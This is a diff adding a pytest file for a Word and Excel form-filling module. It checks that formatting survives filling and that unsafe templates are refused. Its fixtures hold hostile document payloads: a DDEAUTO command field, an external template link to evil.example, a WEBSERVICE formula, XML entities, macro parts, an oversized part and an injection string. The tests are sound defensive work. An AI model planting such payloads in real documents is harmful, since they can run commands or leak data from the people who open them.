@@ -1,0 +1,234 @@
+"""Other people's forms: filled with their format kept, and refused with a sentence where they would act or cannot be filled."""
+
+import zipfile
+from io import BytesIO
+
+import openpyxl
+import pytest
+from docx import Document
+from docx.shared import Pt
+from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
+from openpyxl.worksheet.datavalidation import DataValidation
+
+from dangjian.filling import Found, List, Unfillable, Values, Vocabulary, examine, fill, kind_of
+
+pytestmark = pytest.mark.once
+WORDS = Vocabulary(
+    names=("支部名称", "主题", "应到", "内容", "导出标记"),
+    lists={"到会": List(("序号", "姓名", "情况")), "谈话": List(("日期",))},
+    required="导出标记",
+)
+HOSTILE = "=HYPERLINK(1)<w:p/>&{{内容}}\x00]]>"
+PEOPLE = [{"序号": 1, "姓名": "胡明远", "情况": "到会"}, {"序号": 2, "姓名": "{{主题}}", "情况": "病假"}]
+VALUES = Values(
+    {"支部名称": "锦绣社区第一党支部", "主题": HOSTILE, "应到": 12, "内容": "一\n二", "导出标记": "编号7"},
+    {"到会": PEOPLE},
+)
+
+
+def saved(made) -> bytes:
+    body = BytesIO()
+    made.save(body)
+    return body.getvalue()
+
+
+def with_parts(content: bytes, parts: dict[str, bytes]) -> bytes:
+    """With parts added or replaced."""
+    body = BytesIO()
+    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(body, "w") as new:
+        for name in old.namelist():
+            if name not in parts:
+                new.writestr(name, old.read(name))
+        for name, said in parts.items():
+            new.writestr(name, said)
+    return body.getvalue()
+
+
+def form() -> Document:
+    """With a placeholder that Word has cut into three runs, two of them bold, and a table with a merged head."""
+    made = Document()
+    paragraph = made.add_paragraph("支部：")
+    for part, bold in (("{{支", True), ("部名", True), ("称}}（应到{{ 应到 }}人）", False)):
+        run = paragraph.add_run(part)
+        run.bold, run.font.name, run.font.size = bold, "仿宋_GB2312", Pt(16)
+    made.add_paragraph("主题：｛｛主题｝｝").alignment = 1
+    made.add_paragraph("{{内容}}")
+    table = made.add_table(rows=3, cols=3, style="Table Grid")
+    table.cell(0, 0).merge(table.cell(0, 2)).text = "到会情况"
+    for cell, name in zip(table.rows[1].cells, ("序号", "姓名", "情况"), strict=True):
+        cell.text = f"{{{{到会．{name}}}}}"
+    table.cell(1, 1).paragraphs[0].runs[0].italic = True
+    table.cell(2, 0).text = "合计{{应到}}"
+    made.sections[0].footer.paragraphs[0].text = "{{导出标记}}"
+    return made
+
+
+def test_a_document_is_filled_and_keeps_its_format():
+    read = Document(BytesIO(fill(saved(form()), VALUES)))
+    first, second, third = read.paragraphs[:3]
+    assert [one.text for one in (first, second, third)] == [
+        "支部：锦绣社区第一党支部（应到12人）",
+        "主题：=HYPERLINK(1)<w:p/>&{{内容}}]]>",
+        "一\n二",
+    ]
+    assert [(one.text, one.bold, one.font.name) for one in first.runs[1:]] == [
+        ("锦绣社区第一党支部", True, "仿宋_GB2312"),
+        ("", True, "仿宋_GB2312"),
+        ("（应到12人）", False, "仿宋_GB2312"),
+    ]
+    assert second.alignment == 1
+    rows = read.tables[0].rows
+    assert [[cell.text for cell in row.cells] for row in rows] == [
+        ["到会情况"] * 3,
+        ["1", "胡明远", "到会"],
+        ["2", "{{主题}}", "病假"],
+        ["合计12", "", ""],
+    ]
+    assert [rows[at].cells[1].paragraphs[0].runs[0].italic for at in (1, 2)] == [True, True]
+    assert (read.tables[0].style.name, read.sections[0].footer.paragraphs[0].text) == ("Table Grid", "编号7")
+
+
+def test_without_rows_a_table_keeps_one_empty_line():
+    read = Document(BytesIO(fill(saved(form()), Values(VALUES.single))))
+    assert [[cell.text for cell in row.cells] for row in read.tables[0].rows[1:]] == [["", "", ""], ["合计12", "", ""]]
+
+
+def book():
+    """A form with merged heads, a list in its middle, a merged foot, a choice and a print area below it."""
+    made = openpyxl.Workbook()
+    sheet = made.active
+    sheet.title = "签到表"
+    thin = Side(style="thin")
+    sheet["A1"] = "{{支部名称}}签到表"
+    sheet.merge_cells("A1:D1")
+    sheet["A1"].font, sheet["A1"].alignment = Font(name="方正小标宋简体", size=22), Alignment(horizontal="center")
+    sheet["A2"], sheet["C2"] = "{{主题}}", "{{应到}}"
+    for place, name in (("A3", "序号"), ("B3", "姓名"), ("D3", "情况")):
+        sheet[place] = f"{{{{到会.{name}}}}}"
+        sheet[place].fill, sheet[place].border = PatternFill("solid", "FFEEDD"), Border(bottom=thin)
+    sheet.merge_cells("B3:C3")
+    sheet.row_dimensions[3].height = 30
+    sheet["A4"] = "{{内容}}"
+    sheet.merge_cells("A4:D5")
+    choice = DataValidation(type="list", formula1='"是,否"')
+    choice.add("D6")
+    sheet.add_data_validation(choice)
+    sheet.print_area = "A1:D6"
+    sheet.oddFooter.center.text = "{{导出标记}}"
+    return made
+
+
+def test_a_workbook_is_filled_and_what_lies_below_a_list_moves_down():
+    read = openpyxl.load_workbook(BytesIO(fill(saved(book()), VALUES)))
+    sheet = read.active
+    assert [[cell.value for cell in row] for row in sheet["A1:D5"]] == [
+        ["锦绣社区第一党支部签到表", None, None, None],
+        ["=HYPERLINK(1)<w:p/>&{{内容}}]]>", None, 12, None],
+        [1, "胡明远", None, "到会"],
+        [2, "{{主题}}", None, "病假"],
+        ["一\n二", None, None, None],
+    ]
+    assert (sheet["A2"].data_type, sheet["A2"].quotePrefix, sheet["C2"].data_type) == ("s", True, "n")
+    assert sorted(map(str, sheet.merged_cells.ranges)) == ["A1:D1", "A5:D6", "B3:C3", "B4:C4"]
+    assert (sheet["A1"].font.name, sheet["A1"].font.size, sheet["A1"].alignment.horizontal) == (
+        "方正小标宋简体",
+        22,
+        "center",
+    )
+    assert [sheet[place].fill.start_color.rgb for place in ("A3", "A4", "D4")] == ["00FFEEDD"] * 3
+    assert [sheet.row_dimensions[row].height for row in (3, 4, 5)] == [30, 30, None]
+    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == ["D7"]
+    assert (sheet.print_area, sheet.oddFooter.center.text) == ("'签到表'!$A$1:$D$7", "编号7")
+
+
+def test_what_a_file_holds_is_told_with_its_places():
+    assert examine(saved(form()), WORDS)[:3] == [
+        Found("支部名称", "第1段"),
+        Found("应到", "第1段"),
+        Found("主题", "第2段"),
+    ]
+    assert examine(saved(form()), WORDS)[4].where == "第1个表第2行第1格"
+    assert [one.where for one in examine(saved(book()), WORDS)] == [
+        *(
+            "签到表!A1",
+            "签到表!A2",
+            "签到表!C2",
+            "签到表!A3",
+            "签到表!B3",
+            "签到表!D3",
+            "签到表!A4",
+            "签到表的页眉页脚",
+        ),
+    ]
+    assert [kind_of(saved(one)) for one in (form(), book())] == ["docx", "xlsx"]
+
+
+def changed(change, made=form) -> bytes:
+    one = made()
+    change(one)
+    return saved(one)
+
+
+def text(said: str):
+    return lambda made: made.add_paragraph(said)
+
+
+def in_cell(place: str, said: str):
+    return lambda made: made.active.__setitem__(place, said)
+
+
+UNFILLABLE = {
+    "unknown": (changed(text("{{党龄}}和{{到会.手机}}")), "认不出这些占位符：第4段的“党龄”；第4段的“到会.手机”。"),
+    "unknown in a cell": (changed(in_cell("B9", "{{党龄}}"), book), "认不出这些占位符：签到表!B9的“党龄”。"),
+    "half": (changed(text("{{主题")), "第4段有没写完整的占位符"),
+    "expression": (changed(text("{{ 7*7 }}")), "认不出这些占位符：第4段的“7*7”"),
+    "outside a table": (changed(text("{{到会.姓名}}")), "要放在表格的一行里"),
+    "mixed": (changed(in_cell("E3", "{{谈话.日期}}"), book), "同一行里只能放一种名单"),
+    "formula": (changed(in_cell("F1", "=WEBSERVICE(A1)"), book), "签到表!F1里有公式"),
+    "no mark": (changed(lambda made: setattr(made.sections[0].footer.paragraphs[0], "text", "")), "请在页脚或末尾放一处 {{导出标记}}"),
+    "none": (saved(Document()), "文件里没有占位符"),
+    "old": (b"\xd0\xcf\x11\xe0" + bytes(600), "文件不完整或已损坏"),
+    "macro": (with_parts(saved(form()), {"word/vbaProject.bin": b"x"}), "文件里有宏"),
+    "object": (with_parts(saved(form()), {"word/embeddings/a.docx": b"x"}), "文件里有宏"),
+    "outside": (
+        with_parts(
+            saved(form()),
+            {
+                "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                b'relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
+                b'TargetMode="External"/></Relationships>'
+            },
+        ),
+        "链接了别处的文件",
+    ),
+    "field": (
+        changed(lambda made: made.paragraphs[0]._p.append(made.paragraphs[0]._p.makeelement(
+            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}fldSimple",
+            {"{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instr": "DDEAUTO cmd calc"},
+        ))),
+        "链接了别处的文件",
+    ),
+    "entities": (
+        with_parts(saved(form()), {"word/footer9.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
+        "文件不完整或已损坏",
+    ),
+    "bomb": (with_parts(saved(form()), {"word/media/a.png": bytes(21 * 1024 * 1024)}), "模板超过2 MB"),
+    "number": (
+        with_parts(saved(Document()), {"xl/workbook.xml": b"<x/>"}),
+        "文件里没有占位符",
+    ),
+}  # fmt: skip
+
+
+def test_what_cannot_be_filled_is_refused_with_a_sentence():
+    for name, (content, sentence) in UNFILLABLE.items():
+        with pytest.raises(Unfillable) as refusal:
+            examine(content, WORDS)
+        assert sentence in str(refusal.value), name
+
+
+def test_rows_do_not_grow_without_measure():
+    made = form()
+    made.tables[0].cell(1, 2).add_paragraph("长" * 60_000)
+    with pytest.raises(Unfillable, match="名单太长"):
+        fill(saved(made), Values(VALUES.single, {"到会": PEOPLE * 500}))
